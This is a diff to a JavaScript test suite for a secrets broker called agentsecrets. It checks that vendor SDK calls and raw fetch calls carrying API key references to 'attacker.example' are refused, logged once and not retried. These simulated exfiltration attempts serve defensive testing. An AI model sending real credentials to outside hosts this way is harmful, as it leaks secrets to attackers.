@@ -1,13 +1,14 @@
 // The vendors' own libraries, unmodified, over `client.fetch` and over the dispatcher: they never hold a key.
 
 import assert from "node:assert/strict";
+import { createServer } from "node:net";
 import { after, before, test } from "node:test";
 import { inspect } from "node:util";
 
-import Anthropic, { AuthenticationError as AnthropicRefusal } from "@anthropic-ai/sdk";
-import { DestinationNotAllowed, SecretRef } from "agentsecrets";
+import Anthropic, { AuthenticationError as AnthropicRefusal, PermissionDeniedError as AnthropicDenied } from "@anthropic-ai/sdk";
+import { DestinationNotAllowed, SecretRef, Timeout } from "agentsecrets";
 import { AgentSecretsDispatcher } from "agentsecrets/undici";
-import OpenAI, { APIUserAbortError, AuthenticationError } from "openai";
+import OpenAI, { APIUserAbortError, AuthenticationError, PermissionDeniedError } from "openai";
 import { Stripe } from "stripe";
 
 import { canary, Home, until, Upstream } from "./harness.mjs";
@@ -17,12 +18,14 @@ const values = Object.fromEntries(Object.entries(beginnings).map(([name, beginni
 const key = (name) => new SecretRef(name).placeholderLike(beginnings[name]);
 const question = (name) => [{ role: "user", content: `what is ${key(name)}?` }];
 const file = new File(['{"a": 1}\n'.repeat(20_000)], "data.jsonl", { type: "application/jsonl" });
-let upstream, home, client, dispatcher;
+let upstream, home, client, dispatcher, nobody;
 
 before(async () => {
   upstream = await Upstream.start();
   home = new Home(upstream);
   for (const [name, value] of Object.entries(values)) home.set(name, value);
+  nobody = `https://localhost:${await closedPort()}`;
+  for (const name of ["OPENAI_KEY", "ANTHROPIC_KEY"]) home.owner(["allow", name, nobody]);
   client = home.client();
   dispatcher = new AgentSecretsDispatcher(client);
 });
@@ -50,6 +53,20 @@ async function once(name, times, work) {
     for (const form of [values[name], Buffer.from(values[name]).toString("hex")]) assert.ok(!shown.includes(form));
   }
   return received.map((one) => Buffer.from(one.body_base64, "base64").toString());
+}
+
+/** A port where nobody listens; the web's `fetch` calls none of the first ones. */
+async function closedPort() {
+  const server = createServer().listen(0, "127.0.0.1");
+  await new Promise((listening) => server.on("listening", listening));
+  const { port } = server.address();
+  await new Promise((closed) => server.close(closed));
+  return port;
+}
+
+/** How many calls are on record that ended so. */
+async function refusals(outcome = "denied") {
+  return (await client.logs({ outcome, last: 1000 })).length;
 }
 
 const ways = {
@@ -137,18 +154,28 @@ for (const way of Object.keys(ways)) {
     });
   });
 
-  test(`another base URL is refused over ${way}`, async () => {
-    const rootOf = (error) => (error?.cause ? rootOf(error.cause) : error);
-    const calls = [
-      () => openai(way, "ok", "https://attacker.example").withOptions({ maxRetries: 0 })
-        .chat.completions.create({ model: "test", messages: question("OPENAI_KEY") }),
-      () => anthropic(way, "ok", "https://localhost:9443").withOptions({ maxRetries: 0 })
-        .messages.create({ model: "test", max_tokens: 9, messages: question("ANTHROPIC_KEY") }),
-    ];
-    for (const call of calls) {
-      const error = rootOf(await call().catch((reason) => reason));
-      assert.ok(error instanceof DestinationNotAllowed, inspect(error));
-      assert.match(error.hint, /^agentsecrets allow (OPENAI_KEY|ANTHROPIC_KEY) /);
+  test(`a refusal over ${way} is said once and not tried again`, async () => {
+    const calls = {
+      OPENAI_KEY: (library) => library.chat.completions.create({ model: "test", messages: question("OPENAI_KEY") }),
+      ANTHROPIC_KEY: (library) => library.messages.create({ model: "test", max_tokens: 9, messages: question("ANTHROPIC_KEY") }),
+    };
+    for (const [name, make, Refusal] of [
+      ["OPENAI_KEY", openai, PermissionDeniedError],
+      ["ANTHROPIC_KEY", anthropic, AnthropicDenied],
+    ]) {
+      const library = make(way, "ok", "https://attacker.example");
+      assert.equal(library.maxRetries, 2, "the library's own");
+      const denied = await refusals();
+      const error = await calls[name](library).catch((reason) => reason);
+      assert.ok(error instanceof Refusal, inspect(error));
+      assert.equal(error.headers.get("agentsecrets-error"), "destination_not_allowed");
+      assert.match(error.message, new RegExp(`agentsecrets allow ${name} attacker.example`));
+      assert.equal((await refusals()) - denied, 1, "one try is on record");
+      // The control: what may pass is tried again.
+      const unreachable = make(way, "ok", nobody);
+      const tries = await refusals("failed");
+      assert.notEqual((await calls[name](unreachable).catch((reason) => reason)).status, 403);
+      assert.equal((await refusals("failed")) - tries, 3, "a first and two more");
     }
   });
 }
@@ -172,10 +199,25 @@ test("stripe over client.fetch: a form, an upload, its own retries, an error wit
     return error;
   });
   const elsewhere = new Stripe(key(name), {
-    host: "attacker.example", httpClient: Stripe.createFetchHttpClient(client.fetch), maxNetworkRetries: 0,
+    host: "attacker.example", httpClient: Stripe.createFetchHttpClient(client.fetch), maxNetworkRetries: 2,
   });
+  const denied = await refusals();
   const refused = await elsewhere.customers.list().catch((reason) => reason);
-  assert.ok(refused.detail instanceof DestinationNotAllowed, inspect(refused));
+  assert.ok(refused instanceof Stripe.errors.StripePermissionError, inspect(refused));
+  assert.equal(refused.code, "destination_not_allowed");
+  assert.match(refused.message, /agentsecrets allow STRIPE_KEY attacker.example/);
+  assert.equal((await refusals()) - denied, 1, "one try is on record");
+});
+
+test("whoever is no such library is thrown the refusal itself", async () => {
+  const asked = (headers) => client.fetch("https://attacker.example/", { headers: { authorization: `Bearer ${key("OPENAI_KEY")}`, ...headers } });
+  await assert.rejects(asked(), DestinationNotAllowed);
+  const answer = await asked({ "X-Stainless-Retry-Count": "0" });
+  assert.deepEqual([answer.status, answer.headers.get("x-should-retry")], [403, "false"]);
+  const late = client.fetch(`${upstream.origin}/hang`, {
+    timeout: 100, headers: { authorization: `Bearer ${key("OPENAI_KEY")}`, "X-Stainless-Retry-Count": "0" },
+  });
+  await assert.rejects(late, Timeout);
 });
 
 test("the search finds what is there", async () => {
